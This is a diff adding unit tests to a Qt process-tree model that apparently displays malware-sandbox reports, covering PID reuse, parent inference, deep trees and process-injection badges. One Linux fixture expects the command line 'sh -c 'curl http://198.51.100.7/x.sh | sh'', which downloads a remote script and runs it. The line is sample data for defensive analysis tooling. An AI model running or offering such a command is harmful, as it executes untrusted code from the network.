@@ -1,6 +1,7 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
 #include "ui/models/processtreemodel.h"
 #include "hostilereport.h"
+#include "support/fixture.h"
 #include "support/testregistry.h"
 
 #include <QAbstractItemModelTester>
@@ -11,6 +12,13 @@ class ProcessTreeModelTest : public QObject {
 private Q_SLOTS:
     void linksParentsAndCutsCircles();
     void takesTheFirstOfTwoWithOnePid();
+    void theReportsTreeTellsProcessesOfOnePidApart();
+    void readsProcessesOfLinux();
+    void readsAPidThatWasUsedTwice();
+    void withoutATreeTheLastOneBeforeIsTheParent();
+    void losesNoProcessOfTheTree();
+    void marksInWordsNameProcesses();
+    void payloadsTellOfInjections();
     void countsWhatProcessesDid();
     void survivesMarksOfWrongTypes();
     void modelAndFilterKeepTheirContract();
@@ -66,11 +74,114 @@ void ProcessTreeModelTest::takesTheFirstOfTwoWithOnePid()
     const auto table = tableOf(test::report({test::process(7, 1, {test::call(0, "file", "A", "x")}),
         test::process(7, 1, {test::call(0, "file", "B", "x")}), test::process(8, 7)}));
     QCOMPARE(table->rowOfPid(7), 0);
-    QCOMPARE(table->rows()[2].parent, 0);
     QCOMPARE(table->rowOfCall(0), 0);
     QCOMPARE(table->rowOfCall(1), 1);
     QCOMPARE(table->rowOfCall(2), -1);
     QCOMPARE(table->rowOfPid(9), -1);
+}
+
+void ProcessTreeModelTest::theReportsTreeTellsProcessesOfOnePidApart()
+{
+    // p7.exe starts p5.exe, that starts another process with the pid 7, and that one starts p8.exe. The list has the
+    // children before their parents.
+    core::json::Object reuse = test::process(7, 5).toObject();
+    reuse["process_name"] = "reuse.exe";
+    reuse["first_seen"] = "2026-01-31 10:09:00,000";
+    core::json::Object report = test::report({test::process(8, 7), test::process(7, 1), test::process(5, 7), reuse});
+    (*report["behavior"].object())["processtree"] = core::json::Array{test::node(7, "p7.exe",
+        {test::node(5, "p5.exe", {test::node(7, "reuse.exe", {test::node(8, "p8.exe"), test::node(9, "p9.exe")})})})};
+    const auto table = tableOf(report);
+    QCOMPARE(table->rows().size(), std::size_t(5));
+    QCOMPARE(table->rows()[1].parent, -1);
+    QCOMPARE(table->rows()[2].parent, 1);
+    QCOMPARE(table->rows()[3].parent, 2);
+    QCOMPARE(table->rows()[0].parent, 3);
+    QCOMPARE(table->rows()[4].parent, 3); // which was not monitored
+    QCOMPARE(table->rows()[4].name, std::string("p9.exe"));
+    ui::ProcessTreeModel model;
+    model.setTable(table);
+    QCOMPARE(model.indexOfRow(0, ui::ProcessTreeModel::CallsColumn).data().toString(), QStringLiteral("0"));
+    QCOMPARE(model.indexOfRow(4, ui::ProcessTreeModel::CallsColumn).data().toString(), QStringLiteral("\u2013"));
+    QVERIFY(model.indexOfRow(4).data(Qt::ToolTipRole).toString().contains(QLatin1String("not monitored")));
+}
+
+void ProcessTreeModelTest::readsProcessesOfLinux()
+{
+    const auto table = tableOf(test::jsonFixture(QStringLiteral("reports/linux-strace.json")).toObject());
+    QCOMPARE(table->rows().size(), std::size_t(3));
+    QCOMPARE(table->rows()[1].commandLine, std::string("sh -c 'curl http://198.51.100.7/x.sh | sh'"));
+    QCOMPARE(table->rows()[2].parent, 1);
+    ui::ProcessTreeModel model;
+    model.setTable(table);
+    QCOMPARE(model.indexOfRow(0, ui::ProcessTreeModel::FirstSeenColumn).data().toString(),
+        QStringLiteral("T+00:05.500"));
+}
+
+void ProcessTreeModelTest::readsAPidThatWasUsedTwice()
+{
+    const auto table = tableOf(test::jsonFixture(QStringLiteral("reports/pid-reuse.json")).toObject());
+    const auto& rows = table->rows();
+    QCOMPARE(rows.size(), std::size_t(4));
+    QCOMPARE(rows[3].name, std::string("child.exe"));
+    QCOMPARE(rows[std::size_t(rows[3].parent)].name, std::string("reuse.exe"));
+    QCOMPARE(rows[std::size_t(rows[2].parent)].name, std::string("cmd.exe"));
+}
+
+void ProcessTreeModelTest::withoutATreeTheLastOneBeforeIsTheParent()
+{
+    core::json::Object later = test::process(7, 1).toObject();
+    later["first_seen"] = "2026-01-31 10:09:00,000";
+    core::json::Object last = test::process(9, 7).toObject();
+    last["first_seen"] = "2026-01-31 10:10:00,000";
+    const auto table = tableOf(test::report({test::process(7, 1), later, test::process(8, 7), last}));
+    QCOMPARE(table->rows()[2].parent, 0);
+    QCOMPARE(table->rows()[3].parent, 1);
+    // One that was seen after its child is its parent still: nobody else is.
+    const auto reversed = tableOf(test::report({last, later}));
+    QCOMPARE(reversed->rows()[0].parent, 1);
+}
+
+void ProcessTreeModelTest::losesNoProcessOfTheTree()
+{
+    constexpr int depth = 700; // as deep as a reader takes, and with nodes that have no pid
+    core::json::Value chain = test::node(std::nullopt, "nobody.exe");
+    for (int pid = 1; pid < depth; ++pid) {
+        chain = test::node(pid, "p.exe", {chain});
+    }
+    core::json::Object report = test::report({});
+    (*report["behavior"].object())["processtree"] = core::json::Array{chain};
+    const auto parsed = test::parsed(report);
+    std::size_t kept = 0; // by the reader, which has a limit of its own
+    for (const auto* nodes = &parsed->processTree(); !nodes->empty(); nodes = &nodes->front().children) {
+        ++kept;
+    }
+    const ui::ProcessTable table(*parsed);
+    QVERIFY(kept > 100);
+    QCOMPARE(table.rows().size(), kept);
+    QCOMPARE(table.roots().size(), std::size_t(1));
+}
+
+void ProcessTreeModelTest::marksInWordsNameProcesses()
+{
+    const core::json::Array marks{core::json::Object{{"Injection", "p10.exe(10) -> p20.exe(20)"}}};
+    const auto table = tableOf(test::report({test::process(10, 0), test::process(20, 10), test::process(30, 10)},
+        {test::signature("InjectionProcessHollowing", 3, marks)}));
+    QCOMPARE(table->rows()[0].badges.injectedInto, std::vector<std::int64_t>{20});
+    QCOMPARE(table->rows()[1].badges.injectedBy, std::vector<std::int64_t>{10});
+    QCOMPARE(table->rows()[1].kind, ui::ProcessKind::Injected);
+    QCOMPARE(table->rows()[0].badges.signatures, 1);
+    QCOMPARE(table->rows()[1].badges.signatures, 1);
+    QCOMPARE(table->rows()[2].badges.signatures, 0);
+}
+
+void ProcessTreeModelTest::payloadsTellOfInjections()
+{
+    core::json::Object report = test::report({test::process(10, 0), test::process(20, 10)});
+    core::json::Object payload{{"sha256", "ab"}, {"pid", 10}, {"target_pid", "20"}, {"cape_type_code", 4}};
+    report["CAPE"] = core::json::Object{{"payloads", core::json::Array{payload}}, {"configs", core::json::Array()}};
+    const auto table = tableOf(report);
+    QCOMPARE(table->rows()[1].badges.injectedBy, std::vector<std::int64_t>{10});
+    QCOMPARE(table->rows()[0].badges.injectedInto, std::vector<std::int64_t>{20});
 }
 
 void ProcessTreeModelTest::countsWhatProcessesDid()
